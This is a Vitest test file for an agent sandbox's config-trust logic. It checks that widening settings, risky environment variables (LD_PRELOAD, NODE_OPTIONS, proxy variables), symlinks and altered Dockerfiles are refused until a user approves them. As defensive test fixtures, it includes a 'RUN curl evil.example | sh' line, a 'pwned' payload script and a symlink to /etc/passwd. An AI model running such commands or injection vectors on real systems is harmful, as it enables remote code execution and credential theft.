import {execFileSync} from 'node:child_process'
import {mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {afterEach, beforeEach, describe, expect, it} from 'vitest'
import {mergeLayers, parseConfigText} from '../../src/lib/config/layers.js'
import {loadSettings} from '../../src/lib/config/load.js'
import {DEFAULTS, type ConfigFile} from '../../src/lib/config/schema.js'
import {
  assertBuildTrusted,
  carryConfigApproval,
  configTrust,
  isTemplateDockerfile,
  listTrusted,
  matchesTrustedPaths,
  pathGlobToRegExp,
  recordTrust,
  revokeTrust,
  snapshotDir,
  templateDockerfile,
} from '../../src/lib/config/trust.js'
import {reviewWorkspace, unifiedDiff} from '../../src/lib/config/trust-review.js'
import {readTrustStore, trustStorePath, writeTrustStore} from '../../src/lib/config/trust-store.js'
import {envNameMatches, isRiskyEnv, RISKY_ENV_NAMES, wideningChanges, workspaceChanges, type LowerSettings} from '../../src/lib/config/widening.js'
import {ConfigError, UsageError} from '../../src/lib/errors.js'
import {checkDockerNetwork} from '../../src/lib/sandbox/spec.js'
import {isInitialised, type Workspace} from '../../src/lib/workspace.js'

const lower = (over: Partial<LowerSettings> = {}): LowerSettings => ({...structuredClone(DEFAULTS), protectHookConfig: true, ...over})
const widens = (layer: ConfigFile, below = lower()) => wideningChanges(layer, below).map((c) => c.key)

describe('workspaceChanges: httpRules', () => {
  it('rules for a host nothing below restricts narrow; the same rules as below change nothing that widens', () => {
    const changes = workspaceChanges({httpRules: [{host: 'api.example.com', methods: ['GET']}]}, lower())
    expect(changes).toEqual([{key: 'httpRules.api.example.com', summary: '+ httpRules api.example.com methods GET', widens: false}])
    expect(widens({httpRules: [{host: 'registry.npmjs.org', methods: ['HEAD', 'GET']}]})).toEqual([])
  })

  it("narrowing a user's rule is also taken as widening (rules are compared, not their globs' meaning)", () => {
    const below = lower({httpRules: [{host: 'github.com', paths: ['/org/*']}]})
    expect(widens({httpRules: [{host: 'github.com', paths: ['/org/repo/*']}]}, below)).toEqual(['httpRules.github.com'])
  })
})

describe('workspaceChanges: widening settings', () => {
  it.each<[string, ConfigFile, string[]]>([
    ['network open', {network: 'open'}, ['network']],
    ['any dockerNetwork', {dockerNetwork: 'my-net'}, ['dockerNetwork']],
    ['dockerNetwork host', {dockerNetwork: 'host'}, ['dockerNetwork']],
    ['secretEnv', {secretEnv: ['AWS_SECRET_ACCESS_KEY']}, ['secretEnv']],
    ['allowDomains', {allowDomains: ['evil.example']}, ['allowDomains']],
    ['a port on every address', {ports: ['0.0.0.0:8080:3000']}, ['ports']],
    ['a port on an IPv6 address', {ports: ['[::]:8080:3000']}, ['ports']],
    ['sharedAgentConfig false', {sharedAgentConfig: false}, ['sharedAgentConfig']],
    ['selinuxRelabel off', {selinuxRelabel: 'off'}, ['selinuxRelabel']],
    ['protectHookConfig false', {protectHookConfig: false}, ['protectHookConfig']],
    ['nestedContainers', {nestedContainers: true}, ['nestedContainers']],
    ['a registry preset', {registries: ['docker.io']}, ['registries']],
    ['github.installationId', {github: {installationId: 7}}, ['github.installationId']],
    ['a masked secretEnv', {secretEnv: [{name: 'API_TOKEN', hosts: ['api.example.com']}]}, ['secretEnv']],
    ['a masked secretEnv sent to more hosts than below', {secretEnv: [{name: 'API_TOKEN', hosts: ['api.example.com', 'evil.example']}]}, ['secretEnv']],
    ['httpRules lifting the default npm rule', {httpRules: [{host: 'registry.npmjs.org'}]}, ['httpRules.registry.npmjs.org']],
    ['httpRules adding PUT to the npm rule', {httpRules: [{host: 'registry.npmjs.org', methods: ['GET', 'HEAD', 'PUT']}]}, ['httpRules.registry.npmjs.org']],
  ])('%s widens', (_name, layer, keys) => {
    expect(widens(layer)).toEqual(keys)
  })

  it.each(['LD_PRELOAD', 'LD_LIBRARY_PATH', 'NODE_OPTIONS', 'BASH_ENV', 'ENV', 'PATH', 'PYTHONPATH', 'PYTHONSTARTUP', 'PERL5OPT', 'RUBYOPT', 'GIT_SSH_COMMAND', 'GIT_CONFIG_GLOBAL', 'PROMPT_COMMAND', 'SHELLOPTS', 'NODE_PATH', 'npm_config_registry', 'AGENT_SANDBOX_NETWORK', 'AGENT_SANDBOX_ALLOW_DOMAINS'])(
    'env %s widens',
    (name) => {
      expect(isRiskyEnv(name, 'x')).toBe(true)
      expect(widens({env: {[name]: 'x'}})).toEqual([`env.${name}`])
    },
  )

  // Names that change how root's tools in the container behave (init-firewall.sh's curl read a
  // .curlrc from CURL_HOME), which proxy or resolver they use, or what a runtime loads.
  it.each([
    'CURL_HOME', 'curl_home', 'CURL_CA_BUNDLE', 'XDG_CONFIG_HOME', 'XDG_DATA_DIRS',
    'HTTP_PROXY', 'http_proxy', 'HTTPS_PROXY', 'https_proxy', 'ALL_PROXY', 'all_proxy', 'NO_PROXY', 'no_proxy', 'FTP_PROXY', 'ftp_proxy',
    'GCONV_PATH', 'LOCPATH', 'HOSTALIASES', 'RES_OPTIONS', 'LOCALDOMAIN', 'TMPDIR', 'WGETRC', 'SSL_CERT_FILE', 'SSL_CERT_DIR',
    'OPENSSL_CONF', 'OPENSSL_ENGINES', 'LD_AUDIT', 'DYLD_INSERT_LIBRARIES', 'PYTHONHOME', 'PYTHONWARNINGS', 'PERL5LIB', 'PERLLIB', 'PERL5DB',
    'RUBYLIB', 'RUBYOPT', 'NODE_OPTIONS', 'NODE_EXTRA_CA_CERTS', 'NODE_REPL_EXTERNAL_MODULE', 'NPM_CONFIG_USERCONFIG', 'npm_config_script_shell',
    'JAVA_TOOL_OPTIONS', '_JAVA_OPTIONS', 'MALLOC_CHECK_', 'MALLOC_ARENA_MAX', 'PS4', 'SHELLOPTS', 'PROMPT_COMMAND', 'TZDIR', 'TERMINFO',
    'TERMINFO_DIRS', 'INPUTRC', 'LESSOPEN', 'LESSCLOSE', 'MANPAGER', 'PAGER', 'GIT_CONFIG_COUNT', 'GLIBC_TUNABLES',
  ])('env %s widens', (name) => {
    expect(isRiskyEnv(name, 'x')).toBe(true)
    expect(widens({env: {[name]: 'x'}})).toEqual([`env.${name}`])
  })

  it.each(['DEBUG', 'TZ', 'LANG', 'CI', 'PROXY', 'PROXY_URL', 'MY_NODE', 'GITHUB_SHA_X'])('env %s is not on the list', (name) => {
    expect(isRiskyEnv(name, 'x')).toBe(false)
  })

  it('keeps the risky names in one exported list, upper-case (names are upper-cased before matching), none covered by another', () => {
    for (const name of ['LD_*', 'NODE_*', 'GIT_*', 'NPM_CONFIG_*', 'AGENT_SANDBOX_*', 'PATH', 'CURL_*', 'XDG_*', '*_PROXY']) expect(RISKY_ENV_NAMES).toContain(name)
    for (const pattern of RISKY_ENV_NAMES) {
      expect(pattern).toBe(pattern.toUpperCase())
      const bare = pattern.replace(/^\*|\*$/g, '')
      expect(RISKY_ENV_NAMES.filter((other) => other !== pattern && envNameMatches(other, bare)), pattern).toEqual([])
    }
  })

  it('envNameMatches: a trailing * is a prefix, a leading * a suffix, else the whole name', () => {
    expect(envNameMatches('NODE_*', 'NODE_OPTIONS')).toBe(true)
    expect(envNameMatches('NODE_*', 'MY_NODE_X')).toBe(false)
    expect(envNameMatches('*_PROXY', 'HTTPS_PROXY')).toBe(true)
    expect(envNameMatches('*_PROXY', 'HTTPS_PROXY_X')).toBe(false)
    expect(envNameMatches('*_PROXY', 'PROXY')).toBe(false)
    expect(envNameMatches('PATH', 'PATHX')).toBe(false)
    expect(envNameMatches('PATH', 'PATH')).toBe(true)
  })

  it('AGENT_SANDBOX_GITHUB_META=0 only turns something off; =1 widens', () => {
    expect(widens({env: {AGENT_SANDBOX_GITHUB_META: '0'}})).toEqual([])
    expect(widens({env: {AGENT_SANDBOX_GITHUB_META: '1'}})).toEqual(['env.AGENT_SANDBOX_GITHUB_META'])
  })

  it('a limit above the one below widens; removing one is impossible (limits merge key by key)', () => {
    const below = lower({limits: {memory: '1g', cpus: 2, pids: 256}})
    expect(widens({limits: {memory: '2g'}}, below)).toEqual(['limits.memory'])
    expect(widens({limits: {memory: '2048m'}}, below)).toEqual(['limits.memory'])
    expect(widens({limits: {cpus: 4}}, below)).toEqual(['limits.cpus'])
    expect(widens({limits: {pids: 1024}}, below)).toEqual(['limits.pids'])
    expect(mergeLayers([['user', {limits: {memory: '1g'}}], ['workspace', {limits: {}}]]).settings.limits).toEqual({memory: '1g'})
  })

  // {"memory":"0","cpus":1e-10} became Memory=0 NanoCpus=0: no limits at all, below the user's 2g and 2 CPUs.
  it('a limit the engine would read as none widens: compared after the conversion the spec applies', () => {
    const below = lower({limits: {memory: '2g', cpus: 2, pids: 256}})
    expect(widens({limits: {memory: '0'}}, below)).toEqual(['limits.memory'])
    expect(widens({limits: {memory: '0.0001'}}, below)).toEqual(['limits.memory'])
    expect(widens({limits: {memory: '0b'}}, below)).toEqual(['limits.memory'])
    expect(widens({limits: {cpus: 1e-10}}, below)).toEqual(['limits.cpus'])
    expect(widens({limits: {cpus: 0}}, below)).toEqual(['limits.cpus'])
    expect(widens({limits: {pids: 0}}, below)).toEqual(['limits.pids'])
    expect(widens({limits: {memory: '1g', cpus: 1, pids: 128}}, below)).toEqual([])
    // Equal once converted: 2048m is 2g, and 2.0000000001 CPUs is 2e9 nanoCPUs.
    expect(widens({limits: {memory: '2048m', cpus: 2.0000000001}}, below)).toEqual([])
  })

  it.each<[string, unknown, string]>([
    ['memory "0"', {memory: '0'}, 'limits.memory'],
    ['memory "5m"', {memory: '5m'}, 'limits.memory'],
    ['cpus 1e-10', {cpus: 1e-10}, 'limits.cpus'],
    ['cpus 0.009', {cpus: 0.009}, 'limits.cpus'],
  ])('a limit below the engine minimum is a config error naming the field: %s', (_name, limits, field) => {
    expect(() => parseConfigText(JSON.stringify({limits}), '/ws/.agent-sandbox/config.json')).toThrow(new RegExp(`field "${field.replace('.', '\\.')}": must be at least`))
    expect(() => parseConfigText(JSON.stringify({limits}), '/ws/.agent-sandbox/config.json')).toThrow(ConfigError)
  })

  it('the engine minimums themselves are valid limits', () => {
    expect(parseConfigText(JSON.stringify({limits: {memory: '6m', cpus: 0.01}}), 'x').limits).toEqual({memory: '6m', cpus: 0.01})
  })

  // The push gate computes "the default branch" only when the merged list is empty (the gate now
  // always adds it); a workspace's entries only add branches, so they narrow.
  it('protectedBranches from a workspace file narrows, and never removes one below it', () => {
    const changes = workspaceChanges({protectedBranches: ['release/*']}, lower({protectedBranches: ['main']}))
    expect(changes).toEqual([{key: 'protectedBranches', summary: '+ release/*', widens: false}])
    expect(widens({protectedBranches: ['release/*']})).toEqual([])
    expect(mergeLayers([['user', {protectedBranches: ['main']}], ['workspace', {protectedBranches: ['release/*']}]]).settings.protectedBranches).toEqual(['main', 'release/*'])
  })

  it('network firewall widens only when the user chose none', () => {
    expect(widens({network: 'firewall'})).toEqual([])
    expect(widens({network: 'firewall'}, lower({network: 'none'}))).toEqual(['network'])
  })
})

describe('workspaceChanges: narrowing settings apply without trust', () => {
  it.each<[string, ConfigFile]>([
    ['more protected paths', {protectedPaths: ['secrets/', '.env']}],
    ['lower limits than unlimited', {limits: {memory: '512m', cpus: 1, pids: 128}}],
    ['network none', {network: 'none'}],
    ['baseTag', {baseTag: '2026-11-22'}],
    ['harmless env names', {env: {FOO: 'bar', DEBUG: '1', TZ: 'UTC'}}],
    ['ports on loopback (bare, host:container, explicit)', {ports: ['3000', '8080:3000', '127.0.0.1:9000:9000', '[::1]:9001:9001/udp']}],
    ['protected branches', {protectedBranches: ['main', 'release/1.x']}],
    ['selinuxRelabel on', {selinuxRelabel: 'on'}],
    ['github.refreshMarginSeconds', {github: {refreshMarginSeconds: 60}}],
  ])('%s', (_name, layer) => {
    const changes = workspaceChanges(layer, lower())
    expect(changes.length).toBeGreaterThan(0)
    expect(changes.filter((c) => c.widens)).toEqual([])
  })

  it('nestedContainers false where the user turned them on narrows', () => {
    expect(widens({nestedContainers: false}, {...lower(), nestedContainers: true})).toEqual([])
    expect(workspaceChanges({nestedContainers: false}, {...lower(), nestedContainers: true}).map((c) => c.key)).toEqual(['nestedContainers'])
  })

  it('protectHookConfig true where the user turned it off narrows', () => {
    expect(workspaceChanges({protectHookConfig: true}, lower({protectHookConfig: false}))).toEqual([{key: 'protectHookConfig', summary: 'false -> true', widens: false}])
  })

  it('a limit below the user one narrows', () => {
    expect(widens({limits: {memory: '512m', cpus: 1}}, lower({limits: {memory: '1g', cpus: 2}}))).toEqual([])
  })

  it("values equal to the user's change nothing (the template config.json is no change at all)", () => {
    const template = JSON.parse(readFileSync(join(__dirname, '../../templates/config.json'), 'utf8')) as ConfigFile
    expect(workspaceChanges(template, lower())).toEqual([])
    expect(workspaceChanges({allowDomains: ['a.example'], dockerNetwork: 'net'}, lower({allowDomains: ['a.example'], dockerNetwork: 'net'}))).toEqual([])
  })

  it('a workspace cannot remove a protected path: lists only add up', () => {
    const merged = mergeLayers([
      ['user', {protectedPaths: ['secrets/']}],
      ['workspace', {protectedPaths: []}],
    ])
    expect(merged.settings.protectedPaths).toEqual(['secrets/'])
  })

  it('masks secret-looking env values in the summary', () => {
    const [change] = workspaceChanges({env: {API_TOKEN: 'hunter2hunter2'}}, lower())
    expect(change.summary).not.toContain('hunter2')
  })
})

describe('checkDockerNetwork', () => {
  it('refuses container: and ns: from any source, with or without the flag', () => {
    for (const net of ['container:agent-sandbox-other', 'ns:/proc/1/ns/net']) {
      expect(() => checkDockerNetwork(net, 'open', true)).toThrow(UsageError)
      expect(() => checkDockerNetwork(net, 'firewall')).toThrow(/refused from any source/)
    }
  })

  it('refuses host unless network is open and --allow-host-network is given', () => {
    expect(() => checkDockerNetwork('host', 'firewall', true)).toThrow(/network "firewall"/)
    expect(() => checkDockerNetwork('host', 'none', true)).toThrow(UsageError)
    expect(() => checkDockerNetwork('host', 'open', false)).toThrow(/--allow-host-network/)
    expect(() => checkDockerNetwork('host', 'open', true)).not.toThrow()
    expect(() => checkDockerNetwork('bridge', 'firewall')).not.toThrow()
    expect(() => checkDockerNetwork('my-net', 'firewall')).not.toThrow()
  })
})

describe('the trust store', () => {
  let root: string
  let env: NodeJS.ProcessEnv
  let ws: string
  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'agent-sandbox-trust-'))
    env = {HOME: join(root, 'home'), XDG_CONFIG_HOME: join(root, 'cfg'), XDG_STATE_HOME: join(root, 'state')}
    ws = join(root, 'ws')
    mkdirSync(join(ws, '.agent-sandbox'), {recursive: true})
    writeFileSync(join(ws, '.agent-sandbox', 'Dockerfile'), templateDockerfile('latest'))
    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({allowDomains: ['evil.example']}))
  })
  afterEach(() => rmSync(root, {recursive: true, force: true}))

  const trustOf = () => {
    const bytes = readFileSync(join(ws, '.agent-sandbox', 'config.json'))
    return configTrust(ws, bytes, JSON.parse(bytes.toString()) as ConfigFile, undefined, env)
  }

  it('lives under XDG_STATE_HOME, else ~/.local/state', () => {
    expect(trustStorePath(env)).toBe(join(root, 'state', 'agent-sandbox', 'trust.json'))
    expect(trustStorePath({HOME: '/h'})).toBe('/h/.local/state/agent-sandbox/trust.json')
  })

  it('is written 0600 in a 0700 directory, by rename (a new inode, no temp file left)', () => {
    const path = recordTrust(ws, snapshotDir(ws), 'trust', env)
    expect(statSync(path).mode & 0o777).toBe(0o600)
    expect(statSync(join(path, '..')).mode & 0o777).toBe(0o700)
    const first = statSync(path).ino
    writeTrustStore(readTrustStore(env), env)
    expect(statSync(path).ino).not.toBe(first)
    expect(readdirSync(join(path, '..'))).toEqual(['trust.json'])
    expect(readTrustStore(env).workspaces[ws].files).toEqual(snapshotDir(ws).files)
  })

  it('hashes every file of .agent-sandbox/, sorted by path, links included', () => {
    mkdirSync(join(ws, '.agent-sandbox', 'scripts'))
    writeFileSync(join(ws, '.agent-sandbox', 'scripts', 'setup.sh'), 'echo hi\n')
    symlinkSync('/etc/passwd', join(ws, '.agent-sandbox', 'link'))
    const files = snapshotDir(ws).files
    expect(Object.keys(files)).toEqual(['Dockerfile', 'config.json', 'link', 'scripts/setup.sh'])
    expect(files['config.json']).toMatch(/^[0-9a-f]{64}$/)
  })

  it('an untrusted widening file is refused; trusted it applies; one changed byte refuses it again', () => {
    expect(trustOf()).toMatchObject({state: 'untrusted', changed: false, refused: [{key: 'allowDomains'}]})
    recordTrust(ws, snapshotDir(ws), 'trust', env)
    expect(trustOf()).toMatchObject({state: 'trusted', via: 'store', refused: []})
    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({allowDomains: ['evil.examplf']}))
    expect(trustOf()).toMatchObject({state: 'untrusted', changed: true, refused: [{key: 'allowDomains'}]})
  })

  it('loadSettings refuses an untrusted widening file with a one-line ConfigError naming the key and the fix; report mode marks it', () => {
    let error: unknown
    try {
      loadSettings({workspacePath: ws, env})
    } catch (e) {
      error = e
    }
    expect(error).toBeInstanceOf(ConfigError)
    expect((error as ConfigError).message).toContain('allowDomains')
    expect((error as ConfigError).message).not.toContain('\n')
    expect((error as ConfigError).hint).toBe(`review and approve it with: agent-sandbox trust ${ws}`)
    const reported = loadSettings({workspacePath: ws, env, untrusted: 'report'})
    expect(reported.sources.allowDomains).toEqual(['workspace (untrusted: refused)'])
    expect(reported.workspaceTrust?.refused.map((c) => c.key)).toEqual(['allowDomains'])
  })

  it('a narrowing-only file applies untrusted', () => {
    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({limits: {memory: '512m'}, protectedPaths: ['x'], network: 'none'}))
    const loaded = loadSettings({workspacePath: ws, env})
    expect(loaded.settings).toMatchObject({network: 'none', limits: {memory: '512m'}, protectedPaths: ['x']})
    expect(loaded.sources.network).toEqual(['workspace (untrusted)'])
  })

  it('trustedPaths comes only from the user file, and approves matching workspaces', () => {
    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({trustedPaths: ['/']}))
    expect(() => loadSettings({workspacePath: ws, env})).toThrow(/trustedPaths" is only read from the user config/)
    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({allowDomains: ['a.example']}))
    mkdirSync(join(root, 'cfg', 'agent-sandbox'), {recursive: true})
    writeFileSync(join(root, 'cfg', 'agent-sandbox', 'config.json'), JSON.stringify({trustedPaths: [`${root}/*`]}))
    expect(loadSettings({workspacePath: ws, env}).sources.allowDomains).toEqual(['workspace (trusted)'])
  })

  it('globs: * within a component, ** across, ~ from HOME', () => {
    expect(pathGlobToRegExp('/src/mine/*').test('/src/mine/app')).toBe(true)
    expect(pathGlobToRegExp('/src/mine/*').test('/src/mine/app/sub')).toBe(false)
    expect(pathGlobToRegExp('/src/mine/*').test('/src/mine.app')).toBe(false)
    expect(pathGlobToRegExp('/src/**').test('/src/a/b/c')).toBe(true)
    expect(matchesTrustedPaths('/h/src/mine/app', ['~/src/mine/*'], {HOME: '/h'})).toBe(true)
    expect(matchesTrustedPaths('/h/src/theirs/app', ['~/src/mine/*'], {HOME: '/h'})).toBe(false)
  })

  it('revoke and list', () => {
    expect(revokeTrust(ws, env)).toBe(false)
    recordTrust(ws, snapshotDir(ws), 'init', env)
    expect(listTrusted(env).workspaces).toEqual([{path: ws, approvedAt: expect.any(String), by: 'init', status: 'trusted'}])
    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), '{}')
    expect(listTrusted(env).workspaces[0].status).toBe('changed')
    expect(revokeTrust(ws, env)).toBe(true)
    expect(listTrusted(env).workspaces).toEqual([])
  })

  it('carries an approval over a change the CLI made for the user (firewall allow --save), never an unapproved one', () => {
    const before = readFileSync(join(ws, '.agent-sandbox', 'config.json'), 'utf8')
    const after = JSON.stringify({allowDomains: ['evil.example', 'more.example']})
    expect(carryConfigApproval(ws, before, after, env)).toBe(false)
    recordTrust(ws, snapshotDir(ws), 'trust', env)
    expect(carryConfigApproval(ws, before, after, env)).toBe(true)
    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), after)
    expect(trustOf().state).toBe('trusted')
  })

  it("the template Dockerfile builds untrusted; any other needs approval, and again after a change to the build context", () => {
    expect(() => assertBuildTrusted(ws, env)).not.toThrow()
    writeFileSync(join(ws, '.agent-sandbox', 'Dockerfile'), `${templateDockerfile('latest')}RUN curl evil.example | sh\n`)
    expect(() => assertBuildTrusted(ws, env)).toThrow(/is not the template and is not trusted/)
    recordTrust(ws, snapshotDir(ws), 'trust', env)
    expect(() => assertBuildTrusted(ws, env)).not.toThrow()
    writeFileSync(join(ws, '.agent-sandbox', 'payload.sh'), 'echo pwned\n')
    expect(() => assertBuildTrusted(ws, env)).toThrow(/changed since you trusted it \(payload.sh\)/)
  })

  // A link is hashed as its target's name, while the build and the loader follow it: a linked
  // Dockerfile was recorded as no Dockerfile at all, and its RUN steps built unapproved.
  it.each(['Dockerfile', 'config.json'])('a linked .agent-sandbox/%s is refused everywhere: one ConfigError naming it and the fix', (name) => {
    const file = join(ws, '.agent-sandbox', name)
    const real = join(ws, '.agent-sandbox', `${name}.real`)
    writeFileSync(real, name === 'Dockerfile' ? `${templateDockerfile('latest')}RUN echo linked\n` : JSON.stringify({network: 'none'}))
    rmSync(file)
    symlinkSync(`${name}.real`, file)
    const expected = `${file} is a symbolic link: agent-sandbox reads only regular files in .agent-sandbox/`
    for (const call of [() => snapshotDir(ws), () => assertBuildTrusted(ws, env), () => reviewWorkspace(ws, env), () => loadSettings({workspacePath: ws, env})]) {
      let error: unknown
      try {
        call()
      } catch (caught) {
        error = caught
      }
      expect(error).toBeInstanceOf(ConfigError)
      expect((error as ConfigError).message).toBe(expected)
      expect((error as ConfigError).hint).toBe('replace the link with a copy of the file it points to')
      expect((error as ConfigError).exitCode).toBe(2)
    }
    expect(isInitialised({path: ws} as Workspace)).toBe(true)
  })

  it('a dangling Dockerfile link counts as present (so the build refuses it rather than calling the workspace not set up)', () => {
    rmSync(join(ws, '.agent-sandbox', 'Dockerfile'))
    symlinkSync('nowhere', join(ws, '.agent-sandbox', 'Dockerfile'))
    expect(isInitialised({path: ws} as Workspace)).toBe(true)
    expect(() => assertBuildTrusted(ws, env)).toThrow(/Dockerfile is a symbolic link/)
  })

  it('a linked .agent-sandbox/ directory, and a FIFO anywhere in it, are refused', () => {
    const fifo = join(ws, '.agent-sandbox', 'pipe')
    execFileSync('mkfifo', [fifo])
    expect(() => snapshotDir(ws)).toThrow(`${fifo} is not a regular file`)
    rmSync(fifo)
    renameSync(join(ws, '.agent-sandbox'), join(ws, 'elsewhere'))
    symlinkSync('elsewhere', join(ws, '.agent-sandbox'))
    expect(() => snapshotDir(ws)).toThrow(`${join(ws, '.agent-sandbox')} is a symbolic link: it must be a directory in the workspace itself`)
    expect(() => loadSettings({workspacePath: ws, env})).toThrow(ConfigError)
  })

  it('review shows a diff against the template, then against the approved copy', () => {
    writeFileSync(join(ws, '.agent-sandbox', 'Dockerfile'), `${templateDockerfile('latest')}RUN echo one\n`)
    expect(reviewWorkspace(ws, env).dockerfileDiff).toMatch(/^--- template Dockerfile\n\+\+\+ .agent-sandbox\/Dockerfile\n@@ .*\n(.|\n)*\+RUN echo one/)
    recordTrust(ws, snapshotDir(ws), 'trust', env)
    writeFileSync(join(ws, '.agent-sandbox', 'Dockerfile'), `${templateDockerfile('latest')}RUN echo two\n`)
    const diff = reviewWorkspace(ws, env).dockerfileDiff ?? ''
    expect(diff).toContain('--- approved Dockerfile')
    expect(diff).toContain('-RUN echo one')
    expect(diff).toContain('+RUN echo two')
  })
})

describe('helpers', () => {
  it('recognises the template Dockerfile with any base tag, and nothing else', () => {
    expect(isTemplateDockerfile(templateDockerfile('latest'))).toBe(true)
    expect(isTemplateDockerfile(templateDockerfile('2026-11-22'))).toBe(true)
    expect(isTemplateDockerfile(`${templateDockerfile('latest')}\n`)).toBe(false)
    expect(isTemplateDockerfile(templateDockerfile('latest').replace('# Optional', 'RUN id\n# Optional'))).toBe(false)
  })

  it('unifiedDiff', () => {
    expect(unifiedDiff('a\nb\nc\n', 'a\nB\nc\n', 'x', 'y')).toBe('--- x\n+++ y\n@@ -1,4 +1,4 @@\n a\n-b\n+B\n c\n ')
    const long = Array.from({length: 20}, (_, i) => `l${i}`)
    const changed = [...long]
    changed[1] = 'X'
    changed[18] = 'Y'
    const diff = unifiedDiff(long.join('\n'), changed.join('\n'), 'x', 'y')
    expect(diff.match(/^@@/gm)).toHaveLength(2)
    expect(diff).toContain('@@ -1,5 +1,5 @@')
  })
})
